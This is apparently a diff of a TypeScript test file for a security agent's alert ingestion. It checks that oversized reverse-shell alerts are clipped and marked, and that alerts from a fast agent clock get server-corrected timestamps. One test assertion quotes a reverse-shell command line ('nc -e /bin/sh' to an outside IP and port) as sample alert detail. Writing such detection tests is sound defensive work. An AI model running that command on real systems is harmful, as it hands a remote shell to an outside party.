@@ -1,7 +1,8 @@
-// Issue 13, rows 4 and 5 (agent side): the agent never drops an alert for a property it can fix.
-// An ingest with a small MAX_EVENT_DETAIL_BYTES refuses a padded reverse-shell alert as too large;
-// one whose clock check is strict refuses a fast agent clock. The agent fixes and resends both.
-// A CRITICAL alert that is truly malformed ends in the dead-letter file, and an alert says so.
+// Nothing is dropped for a property that can be fixed: a padded reverse-shell alert over the
+// server's MAX_EVENT_DETAIL_BYTES is stored clipped (the agent's marks and the server's merged),
+// an alert from a fast clock is stored at the server's time with its own kept. (An older server
+// refused both; the agent then fixes and resends them: see command-handler.ts.) A CRITICAL alert
+// that is truly malformed ends in the dead-letter file, and an alert says so.
 import { readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import {
@@ -29,7 +30,7 @@ let ingest: RunningIngest;
 const DETAIL_LIMIT = 4096;
 
 beforeAll(async () => {
-  // An older-behaviour server: refuses (does not clip) details over 4 KiB, and times ahead.
+  // A server that keeps at most 4 KiB of detail, far below what the agent clips to by itself.
   ingest = await startIngest(env, {
     MAX_EVENT_DETAIL_BYTES: String(DETAIL_LIMIT),
     PING_INTERVAL_MS: '100',
@@ -47,7 +48,7 @@ async function detailOf(alertId: string) {
 }
 
 describe('rejections the agent can fix', () => {
-  it('a padded reverse-shell alert refused as too large is clipped, resent and stored; nothing dropped', async () => {
+  it('a padded reverse-shell alert over the server limit is stored clipped and marked; nothing dropped', async () => {
     const logs = captureLog('agent');
     const client = agents.create({
       server: ingest.address,
@@ -67,27 +68,11 @@ describe('rejections the agent can fix', () => {
     const stored = row!.event_detail as { cmdline: string; truncated: Record<string, number> };
     expect(stored.cmdline.startsWith('nc -e /bin/sh 203.0.113.7 4444 AAAA')).toBe(true);
     expect(Buffer.byteLength(JSON.stringify(stored))).toBeLessThanOrEqual(DETAIL_LIMIT);
-    expect(stored.truncated).toEqual({ cmdline: Buffer.byteLength(cmdline) });
-    expect(client.stats()).toMatchObject({
-      queued: 0,
-      acked: 1,
-      fixed: 1,
-      rejected: 0,
-      deadLettered: 0,
+    expect(stored.truncated).toMatchObject({
+      cmdline: Buffer.byteLength(cmdline),
+      event_detail_bytes: expect.any(Number),
     });
-    expect(logs.entries()).toContainEqual(
-      expect.objectContaining({
-        alertId: padded,
-        code: 'REJECT_CODE_EVENT_DETAIL_TOO_LARGE',
-        fix: 'clipped',
-      }),
-    );
-
-    // The limit is learned: the next large alert is clipped before it is sent, not refused.
-    const next = await client.enqueue(draft(2, { detail: { blob: 'x'.repeat(10_000) } }));
-    expect(await client.flush(15_000)).toBe(true);
-    expect(await storedAlertIds(env, [next])).toEqual([next]);
-    expect(client.stats()).toMatchObject({ fixed: 1, rejected: 0 });
+    expect(client.stats()).toMatchObject({ queued: 0, acked: 1, rejected: 0, deadLettered: 0 });
   });
 
   it('an alert from a clock a day fast is stored with the server-corrected time and its own kept', async () => {
@@ -106,7 +91,7 @@ describe('rejections the agent can fix', () => {
     expect(row!.event_detail).toMatchObject({ agent_timestamp_us: fast.getTime() * 1000 });
     // Stored at (about) the server's time, not a day ahead.
     expect(row!.occurred_at.getTime()).toBeLessThan(Date.now() + 60_000);
-    expect(client.stats()).toMatchObject({ queued: 0, fixed: 1, rejected: 0 });
+    expect(client.stats()).toMatchObject({ queued: 0, acked: 1, rejected: 0 });
   });
 });
 
